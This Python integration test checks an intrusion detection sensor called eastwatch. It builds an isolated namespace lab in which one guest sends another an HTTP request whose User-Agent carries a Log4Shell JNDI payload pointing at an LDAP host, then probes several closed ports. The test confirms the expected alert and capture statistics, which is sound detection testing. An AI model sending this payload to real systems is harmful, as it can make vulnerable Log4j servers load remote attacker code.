"""Live capture on a test hypervisor (tests/hypervisor/hypervisor.sh): eastwatch runs in the
sensor namespace on the mirror port with the default rule pack; guest 1 attacks guest 2 (an HTTP
request with a Log4Shell `${jndi:` User-Agent to a listener on 8080, and SYNs to closed ports);
SIGTERM ends the run cleanly. Asserts the Log4Shell alert (sid 9000001, the only default rule
this traffic matches: the SYNs to closed ports match none) between the guests in eve.json, a
final stats record with stats.capture.kernel_packets > 0, and exit code 0. Needs root (and the
right to create network namespaces); exits 77 (ctest: skipped) otherwise. The namespaces are
removed even when the test fails.

usage: test_hypervisor.py --eastwatch BIN --source REPO [--work DIR]
"""
import argparse
import json
import os
import shutil
import signal
import subprocess
import sys
import time

PREFIX = f"ewhv{os.getpid() % 10000}"
GUEST1, GUEST2 = "10.77.0.1", "10.77.0.2"

LISTENER = r"""
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8080)); s.listen(8); print("listening", flush=True)
while True:
    c, _ = s.accept(); c.recv(4096)
    c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok"); c.close()
"""

ATTACK = r"""
import socket, sys
target = sys.argv[1]
c = socket.create_connection((target, 8080), timeout=5)
c.sendall(b"GET / HTTP/1.1\r\nHost: app\r\nUser-Agent: ${jndi:ldap://10.77.0.1:1389/Exploit}\r\n\r\n")
print(c.recv(4096)[:15], flush=True); c.close()
for port in (21, 23, 25, 3306, 5432):
    s = socket.socket(); s.settimeout(2)
    try: s.connect((target, port))
    except OSError: pass
    s.close()
"""


def sh(*argv, **kw):
    return subprocess.run(list(argv), check=True, capture_output=True, text=True, timeout=60, **kw)


def netns(name, *argv):
    return ["ip", "netns", "exec", f"{PREFIX}-{name}", *argv]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--eastwatch", required=True)
    parser.add_argument("--source", required=True)
    parser.add_argument("--work", default="/tmp/eastwatch-hypervisor")
    args = parser.parse_args()
    if os.geteuid() != 0:
        print("SKIP test_hypervisor: needs root (network namespaces, veth, tc mirred); run it as root")
        return 77
    if shutil.which("ip") is None or shutil.which("tc") is None:
        print("SKIP test_hypervisor: needs iproute2 (ip, tc)")
        return 77
    probe = subprocess.run(["ip", "netns", "add", f"{PREFIX}-probe"], capture_output=True, text=True)
    if probe.returncode != 0:  # root without CAP_SYS_ADMIN (e.g. an unprivileged container)
        print(f"SKIP test_hypervisor: cannot create network namespaces: {probe.stderr.strip()}")
        return 77
    subprocess.run(["ip", "netns", "del", f"{PREFIX}-probe"], capture_output=True)
    script = os.path.join(args.source, "tests", "hypervisor", "hypervisor.sh")
    rules = os.path.join(args.source, "signatures", "rules", "eastwatch.rules")
    out = os.path.join(args.work, "out")
    shutil.rmtree(args.work, ignore_errors=True)
    os.makedirs(out)
    processes = []
    try:
        sh("bash", script, "up", PREFIX)
        sensor = subprocess.Popen(netns("sensor", args.eastwatch, "-i", "eth0", "-S", rules, "-l", out),
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        processes.append(sensor)
        deadline = time.monotonic() + 60
        while True:  # wait for the capture to be open
            line = sensor.stderr.readline()
            if not line or time.monotonic() > deadline:
                raise AssertionError(f"eastwatch did not start capturing: {line!r} rc={sensor.poll()}")
            if "capturing on" in line:
                break
        listener = subprocess.Popen(netns("g2", "/usr/bin/python3", "-c", LISTENER), stdout=subprocess.PIPE,
                                    text=True)
        processes.append(listener)
        assert listener.stdout.readline().strip() == "listening", "listener in guest 2"
        attack = sh(*netns("g1", "/usr/bin/python3", "-c", ATTACK, GUEST2))
        assert "200 OK" in attack.stdout, f"guest 2 answered: {attack.stdout!r}"
        time.sleep(1.0)  # the ring hands blocks over after its 100 ms timeout
        sensor.send_signal(signal.SIGTERM)
        _, stderr = sensor.communicate(timeout=60)
        assert sensor.returncode == 0, f"eastwatch exit {sensor.returncode} after SIGTERM: {stderr}"
        records = [json.loads(line) for line in open(os.path.join(out, "eve.json"))]
        alerts = [(r["alert"]["signature_id"], r["src_ip"], r["dest_ip"], r["dest_port"])
                  for r in records if r["event_type"] == "alert"]
        assert (9000001, GUEST1, GUEST2, 8080) in alerts, f"Log4Shell alert between the guests: {alerts}"
        assert all(sid == 9000001 for sid, *_ in alerts), f"no other default rule matches this traffic: {alerts}"
        stats = [r["stats"] for r in records if r["event_type"] == "stats"]
        assert stats, "a final stats record"
        assert stats[-1]["capture"]["kernel_packets"] > 0, f"kernel counters: {stats[-1]['capture']}"
        assert stats[-1]["tcp"]["syn"] >= 6, f"the SYNs were seen: {stats[-1]['tcp']}"
        assert "capture.kernel_packets" in open(os.path.join(out, "stats.log")).read(), "stats.log written"
        print(f"PASS test_hypervisor: {len(alerts)} alert(s), capture {stats[-1]['capture']}")
        return 0
    except (AssertionError, subprocess.SubprocessError, OSError) as error:
        print(f"FAIL test_hypervisor: {error}")
        return 1
    finally:
        for process in processes:
            if process.poll() is None:
                process.kill()
                process.wait()
        subprocess.run(["bash", script, "down", PREFIX], capture_output=True)


if __name__ == "__main__":
    sys.exit(main())
